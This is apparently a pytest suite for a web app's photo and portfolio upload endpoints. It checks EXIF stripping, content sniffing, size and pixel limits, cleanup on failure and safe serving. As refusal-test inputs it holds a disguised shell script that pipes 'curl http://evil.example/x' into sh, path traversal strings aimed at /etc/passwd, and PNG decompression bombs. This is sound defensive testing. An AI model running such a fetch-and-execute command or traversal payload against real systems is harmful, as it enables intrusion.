"""Uploads on the local backend: content decides, limits while streaming, atomic rows and files, serving."""
from __future__ import annotations

import io
import re
from pathlib import Path
from urllib.parse import urlparse

import pytest
from PIL import Image
from sqlalchemy import delete, func, select

from api.kernel.settings import get_settings
from db.models import Profile, SearchOutbox, StoredFile, User
from db.session import get_sessionmaker
from tests.helpers.http import assert_problem
from tests.helpers.uploads import (GPS_IFD, PHOTO, PORTFOLIO, StreamedBody, exif_with_gps, image_bytes, iso_bmff,
                                  mov_bytes, mp4_bytes, multipart_parts, pdf_bytes, png_bomb)

NAME_RE = re.compile(r"^[0-9a-f]{32}\.(jpg|png|webp|mp4|mov|pdf)$")


def media_root() -> Path:
    return Path(get_settings().media_root)


def media_files() -> set[Path]:
    root = media_root()
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def stored_path(url: str) -> Path:
    path = urlparse(url).path
    prefix = get_settings().media_url_prefix.rstrip("/") + "/"
    assert path.startswith(prefix), url
    return media_root() / path[len(prefix):]


async def count_rows(model, *where) -> int:
    async with get_sessionmaker()() as s:
        return await s.scalar(select(func.count()).select_from(model).where(*where))


async def profile_of(user_id) -> Profile:
    async with get_sessionmaker()() as s:
        return (await s.execute(select(Profile).where(Profile.user_id == user_id))).scalar_one()


# ------------------------------------------------------------------ profile photo


async def test_photo_jpeg_is_reencoded_without_exif_and_gets_thumbnails(client, owner):
    original = image_bytes("JPEG", size=(800, 600), exif=exif_with_gps())
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS_IFD)  # the sample really carries GPS

    resp = await client.post(PHOTO, headers=owner.headers,
                             files={"file": ("holiday.jpg", original, "image/jpeg")})
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert NAME_RE.match(body["filename"]) and body["filename"].endswith(".jpg")
    assert body["original_filename"] == "holiday.jpg"
    assert body["file_type"] == "image" and body["content_type"] == "image/jpeg"
    assert set(body["thumbnails"]) == {"128", "512"}

    stored = stored_path(body["url"]).read_bytes()
    assert body["size_bytes"] == len(stored)
    img = Image.open(io.BytesIO(stored))
    assert img.format == "JPEG" and img.size == (800, 600)
    assert len(img.getexif()) == 0 and not img.getexif().get_ifd(GPS_IFD)
    assert b"Exif" not in stored and b"FilmoCamMaker" not in stored and b"SecretModel" not in stored
    for size in ("128", "512"):
        thumb_bytes = stored_path(body["thumbnails"][size]).read_bytes()
        thumb = Image.open(io.BytesIO(thumb_bytes))
        assert thumb.size == (int(size), int(size))  # avatar thumbnails are square crops
        assert b"Exif" not in thumb_bytes

    profile = await profile_of(owner.id)
    assert profile.profile_photo_url == body["url"]
    assert profile.search_version >= 2
    assert await count_rows(SearchOutbox, SearchOutbox.entity_id == profile.id) >= 1
    assert await count_rows(StoredFile, StoredFile.owner_id == owner.id) == 1


@pytest.mark.parametrize("fmt,ext,mime", [("PNG", "png", "image/png"), ("WEBP", "webp", "image/webp")])
async def test_photo_png_and_webp_accepted(client, owner, fmt, ext, mime):
    resp = await client.post(PHOTO, headers=owner.headers,
                             files={"file": (f"me.{ext}", image_bytes(fmt, size=(300, 400)), mime)})
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert body["content_type"] == mime and body["filename"].endswith(f".{ext}")
    assert Image.open(stored_path(body["url"])).format == fmt
    assert Image.open(stored_path(body["thumbnails"]["128"])).size == (128, 128)


async def test_media_is_served_with_type_caching_and_nosniff(client, owner):
    resp = await client.post(PHOTO, headers=owner.headers,
                             files={"file": ("x.bin", image_bytes("PNG"), "application/octet-stream")})
    assert resp.status_code == 200, resp.text
    url = resp.json()["url"]
    assert url.startswith(get_settings().public_base_url)
    served = await client.get(urlparse(url).path)
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/png"
    assert served.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.content == stored_path(url).read_bytes()

    # Only server-generated names are served; traversal and hidden files are not.
    for bad in ("/media/../../etc/passwd", "/media/photos/../../../etc/passwd", "/media/photos/passwd.jpg",
                "/media/.bashrc", "/media/photos/%2e%2e/%2e%2e/etc/passwd"):
        resp = await client.get(bad)
        assert resp.status_code == 404, bad


async def test_photo_replacement_deletes_old_objects_after_commit(client, owner):
    first = (await client.post(PHOTO, headers=owner.headers,
                               files={"file": ("a.jpg", image_bytes("JPEG"), "image/jpeg")})).json()
    old_paths = [stored_path(first["url"])] + [stored_path(u) for u in first["thumbnails"].values()]
    assert all(p.exists() for p in old_paths)

    second = await client.post(PHOTO, headers=owner.headers,
                               files={"file": ("b.webp", image_bytes("WEBP", color=(1, 2, 3)), "image/webp")})
    assert second.status_code == 200, second.text
    assert not any(p.exists() for p in old_paths)
    assert stored_path(second.json()["url"]).exists()
    assert (await profile_of(owner.id)).profile_photo_url == second.json()["url"]
    assert await count_rows(StoredFile, StoredFile.owner_id == owner.id) == 1


async def test_delete_photo(client, owner):
    body = (await client.post(PHOTO, headers=owner.headers,
                              files={"file": ("a.jpg", image_bytes("JPEG"), "image/jpeg")})).json()
    paths = [stored_path(body["url"])] + [stored_path(u) for u in body["thumbnails"].values()]
    version = (await profile_of(owner.id)).search_version

    resp = await client.delete(PHOTO, headers=owner.headers)
    assert resp.status_code == 200 and resp.json() == {"message": "Profile photo deleted"}
    assert not any(p.exists() for p in paths)
    profile = await profile_of(owner.id)
    assert profile.profile_photo_url is None and profile.search_version > version
    assert await count_rows(StoredFile) == 0

    assert_problem(await client.delete(PHOTO, headers=owner.headers), 404, "Profile photo")


async def test_photo_needs_a_profile(client, make_user):
    user = await make_user()
    before = media_files()
    resp = await client.post(PHOTO, headers=user.headers, files={"file": ("a.jpg", image_bytes("JPEG"), "image/jpeg")})
    assert_problem(resp, 404, "profile")
    assert media_files() == before
    assert_problem(await client.delete(PHOTO, headers=user.headers), 404, "profile")


# ------------------------------------------------------------------ refusals


@pytest.mark.parametrize("url", [PHOTO, PORTFOLIO])
async def test_script_with_image_extension_is_refused_naming_its_type(client, owner, url):
    before = media_files()
    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    resp = await client.post(url, headers=owner.headers, files={"file": ("cat.jpg", script, "image/jpeg")})
    body = assert_problem(resp, 415, "detected: text/x-shellscript")
    assert body["errors"][0]["field"] == "file"
    assert media_files() == before and await count_rows(StoredFile) == 0


async def test_unknown_binary_is_named_octet_stream(client, owner):
    resp = await client.post(PORTFOLIO, headers=owner.headers,
                             files={"file": ("a.png", bytes(range(256)) * 4, "image/png")})
    assert_problem(resp, 415, "detected: application/octet-stream")


async def test_pdf_renamed_jpg_is_refused_as_photo(client, owner):
    resp = await client.post(PHOTO, headers=owner.headers, files={"file": ("me.jpg", pdf_bytes(), "image/jpeg")})
    assert_problem(resp, 415, "detected: application/pdf", "JPEG, PNG or WebP")


async def test_png_renamed_pdf_is_stored_as_png_in_portfolio(client, owner):
    resp = await client.post(PORTFOLIO, headers=owner.headers,
                             files={"file": ("resume.pdf", image_bytes("PNG"), "application/pdf")})
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert body["file_type"] == "image" and body["content_type"] == "image/png"
    assert body["filename"].endswith(".png") and body["original_filename"] == "resume.pdf"
    assert Image.open(stored_path(body["url"])).format == "PNG"


async def test_truncated_jpeg_is_refused(client, owner):
    data = image_bytes("JPEG", size=(640, 480))
    before = media_files()
    resp = await client.post(PHOTO, headers=owner.headers,
                             files={"file": ("half.jpg", data[: len(data) // 2], "image/jpeg")})
    assert_problem(resp, 422, "truncated")
    assert media_files() == before


@pytest.mark.parametrize("url,width,height,reason", [
    (PHOTO, 30000, 30000, "declares 900 MP"),  # past Pillow's own bomb guard
    (PORTFOLIO, 30000, 30000, "declares 900 MP"),
    (PORTFOLIO, 10000, 5000, "10000x5000"),  # under Pillow's guard, over ours
])
async def test_decompression_bomb_is_refused(client, owner, url, width, height, reason):
    bomb = png_bomb(width, height)
    assert len(bomb) < 2000
    resp = await client.post(url, headers=owner.headers, files={"file": ("small.png", bomb, "image/png")})
    assert_problem(resp, 422, reason, "limit is 40 MP")
    assert await count_rows(StoredFile) == 0


async def test_oversize_photo_is_refused_from_content_length(client, owner):
    before = media_files()
    big = b"\xff\xd8\xff" + b"\x00" * (6 * 1024 * 1024)
    resp = await client.post(PHOTO, headers=owner.headers, files={"file": ("big.jpg", big, "image/jpeg")})
    body = assert_problem(resp, 413, "5 MB")
    assert body["errors"] == [{"field": "file", "reason": "larger than the 5 MB limit"}]
    assert media_files() == before


async def test_oversize_stream_without_length_stops_reading_early(client, owner):
    data = b"\xff\xd8\xff" + b"\x00" * (20 * 1024 * 1024)
    body = StreamedBody("big.jpg", data, chunk=256 * 1024)
    resp = await client.post(PHOTO, headers={**owner.headers, **body.headers}, content=body)
    assert_problem(resp, 413, "5 MB")
    # The server stopped reading soon after the limit: most of the 20 MB was never pulled.
    assert body.sent < 6 * 1024 * 1024
    assert await count_rows(StoredFile) == 0


async def test_request_shape_errors(client, owner):
    assert_problem(await client.post(PHOTO, headers=owner.headers, json={"file": "x"}), 415, "multipart/form-data")
    resp = await client.post(PHOTO, headers=owner.headers, files={"other": ("a.jpg", image_bytes(), "image/jpeg")})
    assert_problem(resp, 422, "field 'file'")
    resp = await client.post(PHOTO, headers=owner.headers, files={"file": ("a.jpg", b"", "image/jpeg")})
    assert_problem(resp, 422, "empty")
    head, _, headers = multipart_parts("a.jpg")
    resp = await client.post(PHOTO, headers={**owner.headers, **headers}, content=head + image_bytes()[:100])
    assert_problem(resp, 422, "incomplete")


async def test_client_file_name_never_reaches_the_disk(client, owner):
    before = media_files()
    resp = await client.post(PORTFOLIO, headers=owner.headers,
                             files={"file": ("../../etc/passwd.jpg", image_bytes("JPEG"), "image/jpeg")})
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert NAME_RE.match(body["filename"]) and body["original_filename"] == "passwd.jpg"
    new = media_files() - before
    assert len(new) == 3
    root = media_root().resolve()
    for path in new:
        assert path.resolve().is_relative_to(root) and "passwd" not in path.name
    assert not (root.parent / "etc").exists()


# ------------------------------------------------------------------ portfolio


async def test_portfolio_accepts_each_type(client, owner):
    samples = [("still.jpg", image_bytes("JPEG"), "image", "image/jpeg", ".jpg"),
               ("still.png", image_bytes("PNG"), "image", "image/png", ".png"),
               ("still.webp", image_bytes("WEBP"), "image", "image/webp", ".webp"),
               ("reel.mp4", mp4_bytes(), "video", "video/mp4", ".mp4"),
               ("reel.mov", mov_bytes(), "video", "video/quicktime", ".mov"),
               ("cv.pdf", pdf_bytes(), "pdf", "application/pdf", ".pdf")]
    ids = []
    for name, data, file_type, mime, ext in samples:
        resp = await client.post(PORTFOLIO, headers=owner.headers, files={"file": (name, data, "text/plain")})
        assert resp.status_code == 200, (name, resp.text)
        body = resp.json()
        assert (body["file_type"], body["content_type"]) == (file_type, mime), name
        assert body["filename"].endswith(ext)
        served = await client.get(urlparse(body["url"]).path)
        assert served.status_code == 200 and served.headers["content-type"] == mime
        if file_type == "image":
            thumb = Image.open(stored_path(body["thumbnails"]["128"]))
            assert thumb.size == (128, 96)  # portfolio thumbnails keep the aspect ratio
        else:
            assert body["thumbnails"] == {} and served.content == data
        ids.append(body["id"])

    listing = await client.get(PORTFOLIO, headers=owner.headers)
    assert listing.status_code == 200
    assert listing.json()["total"] == 6
    assert [item["id"] for item in listing.json()["items"]] == list(reversed(ids))


@pytest.mark.parametrize("data,reason", [
    (iso_bmff(with_moov=False), "no 'moov' box"),
    (mp4_bytes()[:-100], "impossible size"),
    (iso_bmff(major=b"M4A ", compatible=(b"M4A ",)), "detected: audio/mp4"),
    (b"%PDF-1.7\n" + b"garbage " * 50, "%%EOF"),
    (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n", "PDF"),
])
async def test_broken_videos_and_pdfs_are_refused(client, owner, data, reason):
    before = media_files()
    resp = await client.post(PORTFOLIO, headers=owner.headers, files={"file": ("x.mp4", data, "video/mp4")})
    assert resp.status_code in (415, 422), resp.text
    assert reason in resp.json()["detail"]
    assert media_files() == before and await count_rows(StoredFile) == 0


async def test_portfolio_delete_and_ownership(client, owner, make_user):
    other = await make_user()
    body = (await client.post(PORTFOLIO, headers=owner.headers,
                              files={"file": ("still.jpg", image_bytes("JPEG"), "image/jpeg")})).json()
    paths = [stored_path(body["url"])] + [stored_path(u) for u in body["thumbnails"].values()]
    item = f"{PORTFOLIO}/{body['id']}"

    # Other people neither see nor delete it (a foreign id answers like a missing one).
    assert (await client.get(PORTFOLIO, headers=other.headers)).json() == {"items": [], "total": 0}
    assert_problem(await client.delete(item, headers=other.headers), 404, "Portfolio item")
    assert all(p.exists() for p in paths)

    resp = await client.delete(item, headers=owner.headers)
    assert resp.status_code == 200 and resp.json() == {"message": "Portfolio item deleted"}
    assert not any(p.exists() for p in paths)
    assert await count_rows(StoredFile) == 0
    assert_problem(await client.delete(item, headers=owner.headers), 404)
    assert_problem(await client.delete(f"{PORTFOLIO}/not-a-uuid", headers=owner.headers), 422, "item_id")


async def test_anonymous_is_refused_everywhere(client, owner):
    files = {"file": ("a.jpg", image_bytes(), "image/jpeg")}
    for method, url, kwargs in [("POST", PHOTO, {"files": files}), ("DELETE", PHOTO, {}),
                                ("POST", PORTFOLIO, {"files": files}), ("GET", PORTFOLIO, {}),
                                ("DELETE", f"{PORTFOLIO}/00000000-0000-0000-0000-000000000000", {})]:
        resp = await client.request(method, url, **kwargs)
        assert_problem(resp, 401, "Not authenticated")
        resp = await client.request(method, url, headers={"Authorization": "Bearer nonsense"}, **kwargs)
        assert_problem(resp, 401)


async def test_portfolio_item_limit(client, owner, monkeypatch):
    monkeypatch.setenv("UPLOAD_PORTFOLIO_MAX_ITEMS", "1")
    get_settings.cache_clear()
    try:
        ok = await client.post(PORTFOLIO, headers=owner.headers, files={"file": ("a.pdf", pdf_bytes(), "x/y")})
        assert ok.status_code == 200, ok.text
        resp = await client.post(PORTFOLIO, headers=owner.headers, files={"file": ("b.pdf", pdf_bytes(), "x/y")})
        assert_problem(resp, 409, "1 items")
    finally:
        monkeypatch.delenv("UPLOAD_PORTFOLIO_MAX_ITEMS")
        get_settings.cache_clear()


# ------------------------------------------------------------------ nothing half-written


async def test_profile_gone_during_upload_leaves_no_file_and_no_row(client, owner):
    """The bytes are accepted and stored, then the database write fails: the stored objects are removed."""
    async def delete_profile():
        async with get_sessionmaker()() as s:
            await s.execute(delete(Profile).where(Profile.user_id == owner.id))
            await s.commit()

    before = media_files()
    body = StreamedBody("a.jpg", image_bytes("JPEG", size=(1600, 1200)), chunk=8 * 1024, midway=delete_profile)
    resp = await client.post(PHOTO, headers={**owner.headers, **body.headers}, content=body)
    assert_problem(resp, 404, "no profile")
    assert body.sent == len(body.data)  # the whole file had been received before the failure
    assert media_files() == before
    assert await count_rows(StoredFile) == 0


async def test_account_gone_during_portfolio_upload_leaves_nothing(client, owner):
    async def delete_user():
        async with get_sessionmaker()() as s:
            await s.execute(delete(User).where(User.id == owner.id))
            await s.commit()

    before = media_files()
    body = StreamedBody("reel.mp4", mp4_bytes() + b"", chunk=64, midway=delete_user)
    resp = await client.post(PORTFOLIO, headers={**owner.headers, **body.headers}, content=body)
    assert_problem(resp, 409, "no longer exists")
    assert media_files() == before
    assert await count_rows(StoredFile) == 0


async def test_failed_replacement_keeps_the_old_photo(client, owner):
    first = (await client.post(PHOTO, headers=owner.headers,
                               files={"file": ("a.jpg", image_bytes("JPEG"), "image/jpeg")})).json()
    resp = await client.post(PHOTO, headers=owner.headers, files={"file": ("b.jpg", png_bomb(), "image/jpeg")})
    assert resp.status_code == 422
    assert stored_path(first["url"]).exists()
    assert (await profile_of(owner.id)).profile_photo_url == first["url"]


async def test_over_real_http(start_server, owner):
    """Through a real uvicorn process: the early 413 reaches the client, and a stored photo is served."""
    import httpx

    server = start_server(extra_env={"PUBLIC_BASE_URL": "http://media.example"})
    big = b"\xff\xd8\xff" + b"\x00" * (6 * 1024 * 1024)
    resp = httpx.post(f"{server.url}{PHOTO}", headers=owner.headers, files={"file": ("big.jpg", big, "image/jpeg")},
                      timeout=30)
    assert_problem(resp, 413, "5 MB")

    resp = httpx.post(f"{server.url}{PHOTO}", headers=owner.headers,
                      files={"file": ("me.jpg", image_bytes("JPEG"), "image/jpeg")}, timeout=30)
    assert resp.status_code == 200, resp.text
    url = resp.json()["url"]
    assert url.startswith("http://media.example/media/photos/")
    served = httpx.get(server.url + urlparse(url).path, timeout=10)
    assert served.status_code == 200 and served.headers["content-type"] == "image/jpeg"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.content == stored_path(url).read_bytes()
